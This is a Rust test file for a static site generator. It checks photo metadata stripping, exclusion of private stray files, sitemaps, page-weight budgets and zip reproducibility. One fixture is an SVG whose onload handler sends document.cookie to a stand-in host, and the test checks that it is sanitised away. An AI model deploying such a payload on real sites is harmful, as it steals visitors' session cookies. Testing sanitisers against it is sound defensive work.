//! What a site publishes: photos made for phones with no metadata, nothing published by
//! accident, a weight budget checked on every page, and what hosts and search engines read
//! when `base_url` is set (sitemap, robots.txt, a root 404 page).

use crate::common::images::{GPS_SECONDS, PLACE_MARKER, photo_with_gps, png};
use crate::common::*;
use std::io::Read;
use std::path::Path;

const BASE: &str = "https://amparo.example/sitio/";

/// The minimal fixture with `base_url`, two phone photos with GPS data on one page, a drawing
/// on another, and the stray files an organisation's folder gathers.
fn published() -> Site {
    let site = Site::fixture("minimal");
    let config = std::fs::read_to_string(site.root().join("site.toml")).unwrap();
    site.write(
        "site.toml",
        config.replacen(
            "[title]",
            &format!(
                "base_url = \"{BASE}\"\nexclude = [\"guide/raw/**\"]\ninclude = [\"forms/*.txt\"]\n\n[title]"
            ),
            1,
        ),
    );
    site.write("content/guide/albergue.jpg", photo_with_gps(3000, 2000));
    site.write("content/guide/patio.jpg", photo_with_gps(2400, 1800));
    site.write("content/guide/mapa.png", png(300, 200));
    site.write(
        "content/guide/icono.svg",
        r#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4" onload="fetch('https://e.example/?'+document.cookie)"><script>alert(1)</script><circle r="2"/></svg>"#,
    );
    site.write(
        "content/guide/first.es.md",
        "+++\ntitle = \"Primera\"\n+++\n\n![La entrada del albergue](albergue.jpg)\n\nTexto.\n\n![El patio](patio.jpg)\n",
    );
    site.write(
        "content/guide/second.es.md",
        "+++\ntitle = \"Segunda\"\n+++\n\n![Un mapa](mapa.png)\n\n![Un teléfono](icono.svg)\n\n[La lista](../forms/lista.txt)\n",
    );
    for (rel, bytes) in stray_files() {
        site.write(rel, bytes);
    }
    site.write(
        "content/forms/lista.txt",
        "Lista de lo que hay que llevar.\n",
    );
    site
}

/// Files no page uses, that must not leave the building, and why each stays.
fn stray_files() -> Vec<(&'static str, &'static [u8])> {
    vec![
        (
            "content/guide/notas.txt",
            b"notas privadas sobre el caso de una nina",
        ),
        ("content/guide/caso.docx", b"PK\x03\x04 docx"),
        ("content/guide/Thumbs.db", b"thumbs"),
        ("content/guide/.DS_Store", b"ds"),
        ("content/guide/first.es.md~", b"+++\ntitle = \"old\"\n+++\n"),
        ("content/_privado/foto.jpg", b"not even an image"),
        ("content/.git/config", b"[core]"),
        ("content/guide/raw/original.jpg", b"an excluded file"),
    ]
}

/// Every file of the output, and every file inside its zips, with its bytes.
fn every_output_file(out: &Path) -> Vec<(String, Vec<u8>)> {
    let mut all = Vec::new();
    for f in files(out) {
        let bytes = std::fs::read(out.join(&f)).unwrap();
        if f.ends_with(".zip") {
            let mut zip = zip_reader(&bytes);
            for i in 0..zip.len() {
                let mut entry = zip.by_index(i).unwrap();
                let mut inner = Vec::new();
                entry.read_to_end(&mut inner).unwrap();
                all.push((format!("{f}!{}", entry.name().unwrap()), inner));
            }
        }
        all.push((f, bytes));
    }
    all
}

fn zip_reader(bytes: &[u8]) -> zip::ZipArchive<std::io::Cursor<Vec<u8>>> {
    zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap()
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

#[test]
fn photos_are_made_for_phones_and_no_output_file_tells_where_they_were_taken() {
    let site = published();
    let before = std::fs::metadata(site.root().join("content/guide/albergue.jpg"))
        .unwrap()
        .len();
    assert!(
        before > 1_000_000,
        "a phone photo weighs megabytes: {before}"
    );
    let report = site.build().unwrap_or_else(|d| panic!("{d}"));
    // The input holds what must never be published.
    let input = std::fs::read(site.root().join("content/guide/albergue.jpg")).unwrap();
    assert!(contains(&input, PLACE_MARKER) && contains(&input, &GPS_SECONDS));
    let all = every_output_file(&site.out());
    assert!(
        all.iter()
            .any(|(f, _)| f.ends_with("!media/guide/albergue.jpg"))
    );
    for (f, bytes) in &all {
        for (what, needle) in [
            ("the place", PLACE_MARKER),
            ("the GPS position", &GPS_SECONDS[..]),
            ("EXIF", b"Exif\0\0"),
        ] {
            assert!(!contains(bytes, needle), "{f} holds {what}");
        }
    }
    // Turned upright (EXIF orientation 6), shrunk to 720 px wide, as WebP and as JPEG.
    let jpeg = std::fs::read(site.out().join("media/guide/albergue.jpg")).unwrap();
    let webp = std::fs::read(site.out().join("media/guide/albergue.jpg.webp")).unwrap();
    for bytes in [&jpeg, &webp] {
        let img = image::load_from_memory(bytes).unwrap();
        assert_eq!((img.width(), img.height()), (720, 1080));
    }
    assert!(
        webp.len() < jpeg.len() && (jpeg.len() as u64) < before / 10,
        "{before} bytes in, {} JPEG and {} WebP out",
        jpeg.len(),
        webp.len()
    );
    let html = site.read("es/guide/first/index.html");
    assert_eq!(
        attrs(&html, "picture source[type=\"image/webp\"]", "srcset"),
        vec![
            "../../../media/guide/albergue.jpg.webp",
            "../../../media/guide/patio.jpg.webp"
        ]
    );
    assert_eq!(attrs(&html, "picture img", "width"), vec!["720", "720"]);
    assert_eq!(attrs(&html, "picture img", "height"), vec!["1080", "960"]);
    assert_eq!(attrs(&html, "picture img", "loading"), vec!["lazy"]);
    // An SVG is published as drawing only: nothing in it runs or loads.
    let svg = site.read("media/guide/icono.svg");
    assert!(svg.contains("<circle r=\"2\"/>"), "{svg}");
    for gone in ["script", "onload", "fetch", "e.example"] {
        assert!(!svg.contains(gone), "{gone} in {svg}");
    }
    // The build counts the files it published under media/.
    let media = files(&site.out().join("media"));
    assert_eq!(report.media_files, media.len(), "{media:?}");
}

#[test]
fn a_rebuild_encodes_no_image_again() {
    let site = published();
    site.build().unwrap_or_else(|d| panic!("{d}"));
    let cache = site.root().join(".amparo/cache/images");
    let stamp = |dir: &Path| -> Vec<(String, std::time::SystemTime)> {
        files(dir)
            .into_iter()
            .map(|f| {
                let m = std::fs::metadata(dir.join(&f)).unwrap().modified().unwrap();
                (f, m)
            })
            .collect()
    };
    let first = stamp(&cache);
    assert!(
        first.len() >= 6,
        "three images, each with its files: {first:?}"
    );
    std::thread::sleep(std::time::Duration::from_millis(20));
    site.build().unwrap_or_else(|d| panic!("{d}"));
    assert_eq!(
        stamp(&cache),
        first,
        "nothing in the cache was written again"
    );
    // A changed image is made again, and only it.
    site.write("content/guide/mapa.png", png(200, 100));
    site.build().unwrap_or_else(|d| panic!("{d}"));
    let third = stamp(&cache);
    assert!(first.iter().all(|f| third.contains(f)));
    assert!(third.len() > first.len());
    let img =
        image::load_from_memory(&std::fs::read(site.out().join("media/guide/mapa.png")).unwrap())
            .unwrap();
    assert_eq!(img.width(), 200);
}

#[test]
fn stray_files_are_not_published_and_build_and_check_name_each() {
    let site = published();
    let out = amparo_at(site.root(), &["build"]);
    assert!(out.status.success(), "{out:?}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let all = every_output_file(&site.out());
    for (rel, bytes) in stray_files() {
        let name = rel.rsplit('/').next().unwrap();
        assert!(
            !all.iter()
                .any(|(f, b)| f.ends_with(name) || (bytes.len() > 8 && contains(b, bytes))),
            "{rel} was published"
        );
    }
    for (said, why) in [
        (
            "content/guide/notas.txt",
            "`.txt` is not a file type a page can use",
        ),
        ("content/guide/caso.docx", "`.docx` is not a file type"),
        (
            "content/guide/Thumbs.db",
            "a file the operating system makes",
        ),
        (
            "content/guide/.DS_Store",
            "a file the operating system makes",
        ),
        ("content/guide/first.es.md~", "an editor's backup"),
        ("content/_privado/foto.jpg", "starts with `_`"),
        ("content/.git/", "starts with `.`"),
        (
            "content/guide/raw/original.jpg",
            "`exclude` lists `guide/raw/**`",
        ),
    ] {
        assert!(
            stdout.lines().any(|l| l.contains(said) && l.contains(why)),
            "the build does not say `{said}`: {why}\n{stdout}"
        );
    }
    assert!(stdout.contains("Not published (8):"), "{stdout}");
    // The totals name the heaviest page, weighed with the photos a phone fetches.
    let totals = stdout.lines().last().unwrap_or_default();
    let heaviest = totals.split("; heaviest page ").nth(1).unwrap_or_default();
    assert!(
        heaviest.starts_with("es/guide/first/index.html ("),
        "{totals}"
    );
    let kb: u64 = heaviest
        .split(['(', ' '])
        .nth(2)
        .and_then(|n| n.parse().ok())
        .unwrap_or_default();
    let webp = ["albergue", "patio"]
        .iter()
        .map(|p| {
            std::fs::metadata(site.out().join(format!("media/guide/{p}.jpg.webp")))
                .unwrap()
                .len()
        })
        .sum::<u64>();
    assert!(
        kb * 1024 > webp,
        "{totals}: the photos alone are {webp} bytes"
    );
    // `include` publishes what the author insists on, and the page's link to it works.
    assert_eq!(
        std::fs::read_to_string(site.out().join("media/forms/lista.txt")).unwrap(),
        "Lista de lo que hay que llevar.\n"
    );
    let check = amparo_at(site.root(), &["check", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&check.stdout).unwrap();
    let left: Vec<&str> = report["left_out"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["path"].as_str().unwrap())
        .collect();
    assert_eq!(left.len(), 8, "{left:?}");
    assert!(left.contains(&"content/guide/notas.txt"));
    // A link to a file that is not published says so, and how to publish it.
    site.write(
        "content/guide/second.es.md",
        "+++\ntitle = \"Segunda\"\n+++\n\n[Notas](notas.txt)\n",
    );
    let e = site.errors();
    let d = find(&e, "content/link");
    assert!(
        d.message
            .contains("`content/guide/notas.txt` is not published")
            && d.help.as_deref().unwrap_or_default().contains("include"),
        "{d}"
    );
}

#[test]
fn an_output_folder_inside_a_source_folder_is_refused() {
    let site = published();
    for out in ["content/out", "locales/x", "themes/public"] {
        let o = std::process::Command::new(env!("CARGO_BIN_EXE_amparo"))
            .args(["build", "--root"])
            .arg(site.root())
            .arg("--out")
            .arg(site.root().join(out))
            .output()
            .unwrap();
        assert!(!o.status.success(), "{out}");
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains("output/unsafe") && err.contains("inside"),
            "{err}"
        );
        assert!(!site.root().join(out).exists(), "{out}");
    }
}

#[test]
fn with_base_url_the_sitemap_lists_every_page_with_its_languages_and_check_passes_strict() {
    let site = published();
    site.build().unwrap_or_else(|d| panic!("{d}"));
    let xml = site.read("sitemap.xml");
    let mut reader = quick_xml::Reader::from_str(&xml);
    let (mut locs, mut alternates) = (Vec::new(), Vec::new());
    let mut in_loc = false;
    loop {
        match reader.read_event().unwrap() {
            quick_xml::events::Event::Start(e) if e.name().as_ref() == b"loc" => in_loc = true,
            quick_xml::events::Event::Text(t) if in_loc => {
                locs.push(t.decode().unwrap().into_owned());
                in_loc = false;
            }
            quick_xml::events::Event::Empty(e) if e.name().as_ref() == b"xhtml:link" => {
                let get = |k: &[u8]| {
                    e.attributes()
                        .flatten()
                        .find(|a| a.key.as_ref() == k)
                        .map(|a| String::from_utf8(a.value.to_vec()).unwrap())
                        .unwrap()
                };
                alternates.push((
                    locs.last().cloned().unwrap(),
                    get(b"hreflang"),
                    get(b"href"),
                ));
            }
            quick_xml::events::Event::Eof => break,
            _ => {}
        }
    }
    for url in locs.iter().chain(alternates.iter().map(|(_, _, h)| h)) {
        let rel = url.strip_prefix(BASE).unwrap_or_else(|| panic!("{url}"));
        assert!(site.out().join(rel).is_file(), "{url} is not in the output");
    }
    // Spanish has 4 pages, English 3 of its own; the chooser; and no page shown by fallback.
    assert_eq!(locs.len(), 1 + 4 + 3, "{locs:?}");
    assert!(
        !locs
            .iter()
            .any(|l| l.ends_with("en/guide/second/index.html"))
    );
    let es_home = format!("{BASE}es/index.html");
    let of_home: Vec<&str> = alternates
        .iter()
        .filter(|(loc, _, _)| *loc == es_home)
        .map(|(_, l, _)| l.as_str())
        .collect();
    assert_eq!(of_home, vec!["es", "en"], "every language, itself included");
    assert_eq!(
        site.read("robots.txt"),
        format!("User-agent: *\nAllow: /\n\nSitemap: {BASE}sitemap.xml\n")
    );
    // The root 404 page: every address absolute under base_url, so it works at any depth.
    let root_404 = site.read("404.html");
    let links = attrs(&root_404, "a", "href");
    assert!(links.contains(&format!("{BASE}es/index.html")), "{links:?}");
    // Its own files stay relative: opened from a copy on a computer, nothing leaves it.
    let css = attrs(&root_404, "link[rel=stylesheet]", "href");
    assert!(css[0].starts_with("assets/style.") && site.out().join(&css[0]).is_file());
    assert!(attrs(&root_404, "link[rel=icon]", "href")[0].starts_with("assets/"));
    assert!(
        texts(&root_404, "h1")
            .join(" ")
            .contains("No encontramos esta página")
    );
    // It is for hosts: no copy to share holds it, nor the sitemap.
    for zip in ["amparo-all.zip", "amparo-es.zip"] {
        let z = zip_reader(&std::fs::read(site.out().join(zip)).unwrap());
        for name in ["404.html", "sitemap.xml", "robots.txt"] {
            assert!(z.index_for_name(name).is_none(), "{zip} holds {name}");
        }
    }
    // Every page kind has a description and an icon (the quick exit's neutral page an empty
    // one: nothing on it may recall the site), so no browser asks for /favicon.ico.
    for f in files(&site.out()).iter().filter(|f| f.ends_with(".html")) {
        let html = site.read(f);
        let d = attrs(&html, "meta[name=description]", "content");
        assert!(d.len() == 1 && !d[0].trim().is_empty(), "{f}: {d:?}");
        assert_eq!(attrs(&html, "link[rel=icon]", "href").len(), 1, "{f}");
    }
    let check = amparo_at(site.root(), &["check", "--strict"]);
    assert!(
        check.status.success(),
        "{}",
        String::from_utf8_lossy(&check.stdout)
    );
}

#[test]
fn check_warns_of_a_page_over_its_budget_and_names_its_largest_files() {
    let site = published();
    let config = std::fs::read_to_string(site.root().join("site.toml")).unwrap();
    site.write(
        "site.toml",
        format!("{config}\n[check.budget]\nimages_kb = 20\nfirst_load_kb = 3\n"),
    );
    let out = amparo_at(site.root(), &["check", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let findings = report["findings"].as_array().unwrap();
    let images: Vec<&serde_json::Value> = findings
        .iter()
        .filter(|f| f["code"] == "budget/images")
        .collect();
    assert_eq!(images.len(), 1, "only the page with the photos: {images:?}");
    assert_eq!(images[0]["path"], "es/guide/first/index.html");
    let msg = images[0]["message"].as_str().unwrap();
    assert!(
        msg.contains("over the budget of 20.0 KB")
            && msg.contains("media/guide/albergue.jpg.webp")
            && msg.contains("media/guide/patio.jpg.webp"),
        "{msg}"
    );
    assert_eq!(images[0]["severity"], "warning");
    let first: Vec<&serde_json::Value> = findings
        .iter()
        .filter(|f| f["code"] == "budget/first-load")
        .collect();
    assert!(!first.is_empty());
    assert!(
        first[0]["message"]
            .as_str()
            .unwrap()
            .contains("assets/style.")
    );
    // The bundled limits pass, and the report names the heaviest page.
    site.write("site.toml", config);
    let out = amparo_at(site.root(), &["check"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("heaviest images: ")
            && text.contains("(es/guide/first/index.html); budget 100.0 KB"),
        "{text}"
    );
}

/// The zips of `out`, by name, as bytes.
fn zips(out: &Path) -> Vec<(String, Vec<u8>)> {
    files(out)
        .into_iter()
        .filter(|f| f.ends_with(".zip"))
        .map(|f| {
            let bytes = std::fs::read(out.join(&f)).unwrap();
            (f, bytes)
        })
        .collect()
}

/// The text of `name` inside `zip`.
fn inside(zip: &[u8], name: &str) -> String {
    let mut text = String::new();
    zip_reader(zip)
        .by_name(name)
        .unwrap_or_else(|e| panic!("{name}: {e}"))
        .read_to_string(&mut text)
        .unwrap();
    text
}

#[test]
fn zips_made_from_the_last_builds_compressed_files_are_those_a_first_build_makes() {
    let site = Site::fixture("minimal");
    let cache = site.root().join(".amparo/cache/zips/0.zip");
    let page = "content/_index.es.md";
    site.build().unwrap_or_else(|d| panic!("{d}"));
    assert!(
        cache.is_file(),
        "the first build keeps its compressed files"
    );
    let first = zips(&site.out());
    assert_eq!(
        first.len(),
        3,
        "{:?}",
        first.iter().map(|z| &z.0).collect::<Vec<_>>()
    );

    // A changed page: its zips hold the new text, and are what a build without the cache makes.
    let text = std::fs::read_to_string(site.root().join(page)).unwrap();
    site.write(page, format!("{text}\n\nUna frase nueva para la copia.\n"));
    site.build().unwrap_or_else(|d| panic!("{d}"));
    let warm = zips(&site.out());
    let es = &warm.iter().find(|(n, _)| n == "amparo-es.zip").unwrap().1;
    assert!(inside(es, "es/index.html").contains("Una frase nueva"));
    assert_ne!(warm, first);
    std::fs::remove_file(&cache).unwrap();
    site.build().unwrap_or_else(|d| panic!("{d}"));
    assert!(
        zips(&site.out()) == warm,
        "the same bytes, with or without the cache"
    );

    // A damaged cache costs time, never a wrong or failed zip.
    let kept = std::fs::read(&cache).unwrap();
    for damaged in [
        b"not a zip".to_vec(),
        kept[..kept.len() / 2].to_vec(),
        Vec::new(),
    ] {
        std::fs::write(&cache, damaged).unwrap();
        site.build().unwrap_or_else(|d| panic!("{d}"));
        assert!(zips(&site.out()) == warm, "a damaged cache changes nothing");
    }
}

/// A build packs its zips as it writes the site, the preview makes them when asked from the
/// site it holds in memory: the same bytes, content assets included. (The build cuts each
/// page's one-language copy out of the page along the theme's marks, the preview renders the
/// copy again: this is also what holds the marks of the bundled theme right.)
#[test]
fn the_previews_zips_are_the_builds_byte_for_byte() {
    let site = published();
    site.build().unwrap_or_else(|d| panic!("{d}"));
    let built = zips(&site.out());
    assert_eq!(
        built.len(),
        3,
        "{:?}",
        built.iter().map(|z| &z.0).collect::<Vec<_>>()
    );
    let (_, _, preview) =
        amparo::Preview::render(site.root(), false).unwrap_or_else(|d| panic!("{d}"));
    for (name, bytes) in &built {
        let made = preview
            .zip(name)
            .unwrap_or_else(|| panic!("no {name} in the preview"));
        assert!(made == *bytes, "{name} differs from the built one");
    }
    let all = &built.iter().find(|(n, _)| n == "amparo-all.zip").unwrap().1;
    assert!(
        zip_reader(all)
            .index_for_name("media/guide/mapa.png")
            .is_some()
    );
}

/// A theme without the marks of what a one-language copy leaves out has its copies rendered
/// again: the same zips. Marks that do not pair stop the build, naming the template.
#[test]
fn a_theme_without_copy_marks_gets_the_same_zips_and_bad_marks_are_named() {
    let site = published();
    site.build().unwrap_or_else(|d| panic!("{d}"));
    let marked = zips(&site.out());
    let base = "themes/default/templates/base.html";
    let template = std::fs::read_to_string(site.root().join(base)).unwrap();
    let unmarked = template
        .replace("{% if not l.current %}{{ not_in_copy }}{% endif %}", "")
        .replace("{% if not l.current %}{{ end_not_in_copy }}{% endif %}", "")
        .replace("{{ not_in_copy }}", "")
        .replace("{{ end_not_in_copy }}", "");
    assert!(!unmarked.contains("not_in_copy"), "{unmarked}");
    site.write(base, &unmarked);
    site.build().unwrap_or_else(|d| panic!("{d}"));
    assert!(zips(&site.out()) == marked, "the same zips, rendered again");

    site.write(base, template.replacen("{{ end_not_in_copy }}", "", 1));
    let err = site
        .build()
        .expect_err("marks that do not pair")
        .to_string();
    let page = "templates/page.html: the marks of what a one-language copy leaves out: a \
                `not_in_copy` is inside another";
    assert_eq!(err.matches(page).count(), 1, "once for the template: {err}");
}
